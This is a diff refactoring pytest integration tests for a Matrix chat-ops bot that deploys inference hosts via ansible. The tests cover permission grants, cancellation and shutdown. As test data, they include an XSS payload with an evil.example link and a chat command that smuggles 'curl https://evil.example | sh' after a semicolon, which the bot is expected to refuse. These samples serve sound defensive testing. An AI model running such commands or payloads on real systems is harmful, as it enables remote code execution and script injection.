@@ -4,17 +4,14 @@ Synapse runs on loopback (matrix_support.py); the bot is the real command, a pro
 own; the operator (@alice, group inference-ops), the on-call user (@carol, status and bench
 only) and the bot are users of it; alice and carol talk to the bot from Matrix clients (nio).
 Behind the bot, real ansible-runner runs stand-in playbooks (matrix_playbooks/) on
-local-connection hosts, whose smoke gate is the collection's own, against the SGLang double.
+local-connection hosts, whose smoke gate is the collection's own, against the SGLang double
+(test_chatops_matrix_lab.py deploys the lab host itself with the real playbooks).
 The bot has one run worker, so every test also shows that cancel never waits for it.
 """
 from __future__ import annotations
 
 import json
-import os
 import re
-import signal
-import subprocess
-import sys
 import time
 import urllib.request
 
@@ -22,9 +19,9 @@ import pytest
 import yaml
 
 from chatops_support import ALL_ACTIONS, LOCAL_HOST_VARS, TESTS, processes_with, write_config
-from matrix_support import Homeserver, Person, run
+from matrix_support import (BOT, BotProcess, Person, assert_is_the_bots_escaped_reply, audit, open_room,
+                            run, serve_in, signed_in)
 
-BOT = "pro6000-bot"
 PLAYBOOKS = TESTS / "matrix_playbooks"
 # What a compromised or careless host could print: markup, a link, Markdown, mentions.
 HOSTILE = ("<img src=x onerror=alert(1)><a href='https://evil.example/'>click</a> **now** "
@@ -32,31 +29,11 @@ HOSTILE = ("<img src=x onerror=alert(1)><a href='https://evil.example/'>click</a
 
 
 @pytest.fixture(scope="module")
-def homeserver(tmp_path_factory):
-    server = Homeserver(tmp_path_factory.mktemp("synapse"))
-    yield server
-    server.stop()
-
-
-@pytest.fixture(scope="module")
 def chat(homeserver, tmp_path_factory, double_url):
     """The users, the room, the bot's configuration (the bot itself is started by each test)."""
-    alice, carol, bot = (homeserver.register(name) for name in ("alice", "carol", BOT))
     folder = tmp_path_factory.mktemp("bot")
-
-    async def setup():
-        people = [Person(homeserver, user) for user in (alice, carol, bot)]
-        tokens = [await person.login() for person in people]
-        room = await people[0].create_room(invite=[carol, bot])
-        await people[1].join(room)
-        for person in people:
-            await person.close()
-        return room, tokens[2]
-
-    room, bot_token = run(setup())
-    token_file = folder / "matrix-token"
-    token_file.write_text(bot_token + "\n", encoding="utf-8")
-    token_file.chmod(0o600)
+    room = open_room(homeserver, folder, ["alice", "carol"])
+    alice, carol = room.users["alice"], room.users["carol"]
     out = folder / "out"
     out.mkdir()
     served = {**LOCAL_HOST_VARS, "smoke_url": double_url, "chatops_test_out": str(out),
@@ -77,61 +54,18 @@ def chat(homeserver, tmp_path_factory, double_url):
         groups={"inference-ops": [alice], "on-call": [carol]},
         grants=[{"groups": ["inference-ops"], "actions": ALL_ACTIONS, "hosts": ["pro6000-*"]},
                 {"groups": ["on-call"], "actions": ["status", "bench"], "hosts": ["*"]}])
-    document = yaml.safe_load(config.read_text(encoding="utf-8"))
-    document["matrix"] = {"homeserver": homeserver.url, "user_id": bot, "access_token_file": token_file.name,
-                          "rooms": [room], "state_dir": "state"}
-    document["bot"] = {"run_workers": 1, "progress_interval_seconds": 0.5}
-    config.write_text(yaml.safe_dump(document), encoding="utf-8")
-    return {"homeserver": homeserver, "alice": alice, "carol": carol, "bot": bot, "room": room,
-            "config": config, "folder": folder, "out": out, "gate": gate}
-
-
-class BotProcess:
-    """``pro6000-chatops serve`` as its own process; ready once it has read the backlog."""
-
-    started = 0
-
-    def __init__(self, chat):
-        BotProcess.started += 1
-        self.log = chat["folder"] / f"bot-{BotProcess.started}.log"
-        with open(self.log, "wb") as log:
-            self.process = subprocess.Popen(
-                [sys.executable, "-m", "pro6000_chatops", "serve", "--config", str(chat["config"])],
-                stdout=log, stderr=subprocess.STDOUT, env=os.environ.copy())
-        self.wait_for_log("matrix: listening")
-
-    def text(self) -> str:
-        return self.log.read_text(encoding="utf-8", errors="replace")
-
-    def wait_for_log(self, line: str, timeout: float = 60) -> None:
-        deadline = time.monotonic() + timeout
-        while line not in self.text():
-            assert self.process.poll() is None, f"the bot exited ({self.process.returncode}):\n{self.text()}"
-            assert time.monotonic() < deadline, f"the bot did not log {line!r}:\n{self.text()}"
-            time.sleep(0.1)
-
-    def stop(self, timeout: float = 60) -> int:
-        self.process.send_signal(signal.SIGTERM)
-        return self.process.wait(timeout)
+    serve_in(config, room, run_workers=1, progress_interval_seconds=0.5)
+    return {"homeserver": homeserver, "matrix": room, "alice": alice, "carol": carol,
+            "bot": room.users["bot"], "room": room.room_id, "config": config, "folder": folder,
+            "out": out, "gate": gate}
 
 
 @pytest.fixture
 def bot(chat):
-    process = BotProcess(chat)
+    process = BotProcess(chat["config"])
     yield process
     if process.process.poll() is None:
         assert process.stop() == 0, process.text()
-
-
-def audit(chat) -> list[dict]:
-    return [json.loads(line) for line in (chat["folder"] / "audit.jsonl").read_text().splitlines()]
-
-
-async def signed_in(chat, *names: str) -> list[Person]:
-    people = [Person(chat["homeserver"], chat[name]) for name in names]
-    for person in people:
-        await person.login()
-    return people
 
 
 async def deploy_until_the_gate(alice: Person, chat) -> str:
@@ -141,17 +75,9 @@ async def deploy_until_the_gate(alice: Person, chat) -> str:
     return deploy
 
 
-def assert_is_the_bots_escaped_reply(content: dict, command_event: str) -> None:
-    assert content["msgtype"] == "m.notice" and content["m.mentions"] == {}
-    assert content["m.relates_to"]["rel_type"] == "m.thread"
-    assert content["m.relates_to"]["m.in_reply_to"] == {"event_id": command_event}
-    assert content["formatted_body"].startswith("<pre><code>")
-    assert "<" not in content["formatted_body"][len("<pre><code>"):-len("</code></pre>")]
-
-
 def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat, bot):
     async def conversation():
-        (alice,) = await signed_in(chat, "alice")
+        (alice,) = await signed_in(chat["matrix"], "alice")
         command = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01 ddtree draft=16 budget=15")
         ack = await alice.wait_for_reply(command, "received: deploy pro6000-01")
         summary = await alice.wait_for_reply(command, "deploy pro6000-01 ddtree draft=16 budget=15: ")
@@ -175,13 +101,13 @@ def test_an_operator_deploys_a_host_and_sees_progress_and_the_smoke_figures(chat
     acceptance = float(re.search(r"acceptance ([0-9.]+)", lines[1]).group(1))
     assert 5 < acceptance <= 11
     # The identity is the Matrix user the homeserver authenticated.
-    started = [record for record in audit(chat) if record["event"] == "started"]
+    started = [record for record in audit(chat["folder"]) if record["event"] == "started"]
     assert [(record["user"], record["hosts"]) for record in started] == [(chat["alice"], ["pro6000-01"])]
 
 
 def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
     async def conversation():
-        (carol,) = await signed_in(chat, "carol")
+        (carol,) = await signed_in(chat["matrix"], "carol")
         deploy = await carol.say(chat["room"], f"{BOT}, deploy pro6000-01 none")
         refusal = await carol.wait_for_reply(deploy, "refused: ")
         status = await carol.say(chat["room"], f"@{BOT}:localhost status")
@@ -195,13 +121,13 @@ def test_an_on_call_user_may_not_deploy_and_may_see_status(chat, bot):
     assert summary["body"].startswith("status: successful")
     for host in ("pro6000-01", "pro6000-02", "pro6000-03"):
         assert f"{host}: ok, 0 changed; serves DDTREE draft 16 budget 15 on SGLang 0.5.23" in summary["body"]
-    assert [record["command"] for record in audit(chat)
+    assert [record["command"] for record in audit(chat["folder"])
             if record["event"] == "started" and record["user"] == chat["carol"]] == ["status"]
 
 
 def test_cancel_is_answered_while_the_run_worker_is_busy_and_stops_the_run(chat, bot):
     async def conversation():
-        alice, carol = await signed_in(chat, "alice", "carol")
+        alice, carol = await signed_in(chat["matrix"], "alice", "carol")
         deploy = await deploy_until_the_gate(alice, chat)
         # The only run worker is busy: a second run is refused, a cancel is not queued behind it.
         bench = await carol.say(chat["room"], f"{BOT}: bench pro6000-01")
@@ -225,7 +151,7 @@ def test_cancel_is_answered_while_the_run_worker_is_busy_and_stops_the_run(chat,
 def test_hostile_text_is_refused_or_relayed_inert_and_the_bots_own_and_edited_messages_are_ignored(chat, bot):
     async def conversation():
         # own: the bot's account, from another device
-        alice, carol, own = await signed_in(chat, "alice", "carol", "bot")
+        alice, carol, own = await signed_in(chat["matrix"], "alice", "carol", "bot")
         injected = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01; curl https://evil.example | sh <b>x</b> @room")
         refusal = await alice.wait_for_reply(injected, "refused: ")
         failing = await alice.say(chat["room"], f"{BOT}: deploy pro6000-03")
@@ -276,12 +202,12 @@ def carol_notifications_from(chat, sender: str) -> list[dict]:
 
 def started_run(chat, host: str) -> str:
     """The id of the latest run started on ``host`` (the audit log)."""
-    return [record for record in audit(chat) if record["event"] == "started" and host in record["hosts"]][-1]["request"]
+    return [record for record in audit(chat["folder"]) if record["event"] == "started" and host in record["hosts"]][-1]["request"]
 
 
 def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
     async def conversation():
-        (alice,) = await signed_in(chat, "alice")
+        (alice,) = await signed_in(chat["matrix"], "alice")
         deploy = await deploy_until_the_gate(alice, chat)
         started = time.monotonic()
         status = bot.stop()
@@ -298,7 +224,7 @@ def test_sigterm_cancels_the_runs_answers_and_exits(chat, bot):
 
 def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_and_cancels_it(chat, bot):
     async def conversation():
-        alice, carol = await signed_in(chat, "alice", "carol")
+        alice, carol = await signed_in(chat["matrix"], "alice", "carol")
         await deploy_until_the_gate(alice, chat)
         run_id = started_run(chat, "pro6000-02")
         bot.process.kill()
@@ -306,7 +232,7 @@ def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_
         orphans = processes_with(f"PRO6000_CHATOPS_RUN={run_id}")
         while_down = await alice.say(chat["room"], f"{BOT}: deploy pro6000-01")
         announced_from = len(alice.events)
-        second = BotProcess(chat)
+        second = BotProcess(chat["config"])
         try:
             report = None
             deadline = time.monotonic() + 30
@@ -353,5 +279,5 @@ def test_a_bot_killed_mid_deploy_leaves_the_run_locked_and_the_next_bot_reports_
     # Sent while no bot ran: not run by the bot that came back.
     assert replies_while_down == []
     assert status == 0, second.text()
-    finished = [record for record in audit(chat) if record["event"] == "finished" and record["request"] == run_id]
+    finished = [record for record in audit(chat["folder"]) if record["event"] == "finished" and record["request"] == run_id]
     assert [record["status"] for record in finished] == ["canceled"]
